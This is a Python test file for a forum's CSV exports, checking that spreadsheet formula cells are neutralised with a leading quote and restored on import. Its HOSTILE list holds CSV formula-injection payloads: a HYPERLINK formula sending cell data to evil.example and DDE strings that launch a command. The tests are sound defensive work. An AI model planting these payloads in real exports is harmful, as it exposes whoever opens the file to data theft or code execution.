"""CSV formula injection: every CSV the forum writes (the map export, the Pol.is export) neutralises cells a
spreadsheet would run as a formula, through the one helper in forum/spreadsheet.py."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import select

from forum import jobs
from forum.extensions import db
from forum.interop.polis import (
    PolisComment,
    PolisConversation,
    PolisParticipant,
    PolisVotes,
    read_polis_export,
    write_polis_export,
)
from forum.models import Comment, User
from forum.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell
from tests.factories import login, make_user

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the source")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_get_a_quote_and_come_back(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


def test_a_carriage_return_cannot_start_a_row(tmp_path: Path) -> None:
    conv = PolisConversation(comments=[PolisComment(1, "fine\r=1+1\r\nsecond line", author_id=1)])
    write_polis_export(conv, tmp_path)
    with (tmp_path / "comments.csv").open(newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 2 and rows[1][-1] == "fine\n=1+1\nsecond line"


def test_harmless_cells_are_left_alone() -> None:
    for value in ("plain text", "'quoted already", "", "a=b", 0, -1, 2.5, np.int8(-1), None):
        assert safe_cell(value) is value
    assert restore_cell("'plain") == "'plain"


def test_polis_export_neutralises_text_but_keeps_negative_votes(tmp_path: Path) -> None:
    conv = PolisConversation(
        topic="=cmd|' /C calc'!A0",
        description="@description",
        comments=[PolisComment(i + 1, text, author_id=1) for i, text in enumerate(HOSTILE)],
        votes=PolisVotes(
            np.array([1, 1], dtype=np.int64),
            np.array([1, 2], dtype=np.int64),
            np.array([-1, 1], dtype=np.int8),
            np.array([-1, -1], dtype=np.int64),
        ),
        participants=[PolisParticipant(1, group_id=0, xid="-xid")],
    )
    write_polis_export(conv, tmp_path)
    for name in ("summary.csv", "comments.csv", "votes.csv", "participants-votes.csv"):
        with (tmp_path / name).open(newline="") as fh:
            rows = list(csv.reader(fh))
        text_cells = [c for row in rows for c in row if not c.lstrip("-").isdigit()]
        assert not [c for c in text_cells if _dangerous(c)], name
    votes = list(csv.DictReader(io.StringIO((tmp_path / "votes.csv").read_text())))
    assert sorted(v["vote"] for v in votes) == ["-1", "1"]  # numbers stay numbers
    again = read_polis_export(tmp_path)
    # The forum's own import reads them back unchanged (a carriage return is stored as a line feed).
    assert [c.text for c in again.comments] == [t.replace("\r", "\n") for t in HOSTILE]
    assert again.topic == conv.topic and again.participants[0].xid == "-xid"


def test_map_csv_export_neutralises_readers_text(app, client, debate) -> None:
    story, posted = debate
    jobs.drain(app)
    comments = list(db.session.scalars(select(Comment).where(Comment.story_id == story.id)))
    for i, comment in enumerate(comments):
        comment.body = HOSTILE[i % len(HOSTILE)] + " " + comment.body
        db.session.get(User, comment.author_id).display_name = "@" + comment.author.display_name
    db.session.commit()
    make_user("csv-editor", role="editor")
    login(client, "csv-editor")
    response = client.get(f"/editor/stories/{story.slug}/map/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert rows
    for row in rows:
        for column in ("viewpoint", "author", "text"):
            assert not _dangerous(row[column]), (column, row[column])
        assert row["text"].startswith("'") and row["author"].startswith("'@")
